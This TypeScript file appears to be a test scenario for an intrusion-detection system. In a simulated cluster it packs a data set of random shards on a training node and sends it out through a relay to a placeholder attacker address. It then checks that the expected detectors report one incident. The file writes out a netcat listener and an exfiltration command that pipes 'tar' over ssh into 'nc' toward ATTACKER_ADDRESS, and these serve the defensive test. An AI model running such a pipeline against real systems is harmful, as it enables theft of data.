// A data set leaves: packed on a training node, over a relay on the inference node, to the outside.

import { Foothold } from '../attack/foothold.ts'
import { ENTRY, SSHD } from '../attack/intrusion.ts'
import { ATTACKER_ADDRESS } from '../cluster/layout.ts'
import type { Cluster } from '../cluster/cluster.ts'
import { USERS } from '../cluster/users.ts'
import type { EventJson } from '../../../proto/event-json.ts'
import type { Scenario } from '../scenario.ts'
import { BESIDE } from './intrusion.ts'

const STORE = 'corpus'
const FILES = 8
const FILE_BYTES = 2 << 20
const CORPUS_BYTES = FILES * FILE_BYTES
const DROP_PORT = 5555
const ON_INFERENCE = { zone: 'inference', node: 'inference', uid: USERS.infer } as const
const JOB = 'job:42'

export const exfiltration: Scenario = {
  name: 'exfiltration',
  title: 'a data set is packed, pulled to a relay and sent out: one incident; the job may read it',
  work: BESIDE,
  async act({ cluster, lastStep, progress }) {
    await layOutCorpus(cluster)
    progress('the training job reads the data set')
    await cluster.halves.sees('the job to read the data set', (event) =>
      event.kind === 'store_read' && event.store === STORE && event.workload === JOB)
    progress('the data set leaves')
    const drop = cluster.node('outside').start(
      ['sh', '-c', `nc -n -v -l ${ATTACKER_ADDRESS} ${DROP_PORT} | wc -c`], { unit: 'attacker' })
    await drop.says(/Listening on/, 'stderr')
    const shell = await Foothold.open(cluster)
    await shell.type('ssh train@training-1 "tar -C /srv/train -c corpus" | ' +
      `nc -N ${ATTACKER_ADDRESS} ${DROP_PORT}`)
    lastStep()
    const received = Number(await drop.succeeds())
    if (received < CORPUS_BYTES) throw new Error(`only ${received} bytes came out`)
    await shell.leave()
  },
  check(events) {
    const reads = events.filter(({ kind, store }) => kind === 'store_read' && store === STORE)
    const packed = bytesOf(reads.filter(({ exe }) => String(exe).endsWith('/tar')))
    const trained = bytesOf(reads.filter(({ workload }) => workload === JOB))
    const problems: string[] = []
    if (Math.abs(packed / CORPUS_BYTES - 1) > 0.01) {
      problems.push(`${packed} bytes of the data set were read by tar, not ${CORPUS_BYTES}`)
    }
    if (trained < CORPUS_BYTES) problems.push(`the job is told to have read ${trained} bytes`)
    return problems
  },
  expect: {
    incidents: 1, detectors: ['NET-001', 'NET-002', 'STO-004', 'STO-007'], within_s: 10,
    stores: [STORE], totals: { bytes_in: CORPUS_BYTES, bytes_out: CORPUS_BYTES },
    hops: [
      ENTRY,
      {
        from: { ...ON_INFERENCE, exe: '/ssh' }, to: SSHD,
        bytes_sent_min: 1000, bytes_received_min: CORPUS_BYTES,
      },
      {
        from: ON_INFERENCE, bytes_sent_min: CORPUS_BYTES,
        to: { zone: 'external', node: null, address: ATTACKER_ADDRESS, port: DROP_PORT },
      },
    ],
  },
}

function bytesOf(reads: readonly EventJson[]): number {
  return reads.reduce((sum, { bytes }) => sum + Number(bytes), 0)
}

/** A folder of the training node, which its agent must have found before anybody reads it. */
async function layOutCorpus(cluster: Cluster): Promise<void> {
  cluster.node('training-1').do('sh', '-c', `mkdir -p /srv/train/.new && cd /srv/train/.new && ` +
    `for i in $(seq ${FILES}); do head -c ${FILE_BYTES} /dev/urandom > shard-$i; done && ` +
    `chown -R ${USERS.train} . && mv /srv/train/.new /srv/train/${STORE}`)
  await cluster.halves.sees('the data set to be watched', (event) =>
    event.kind === 'store_seen' && event.store === STORE && event.state === 'watched' &&
    event.node_id === 'training-1')
}
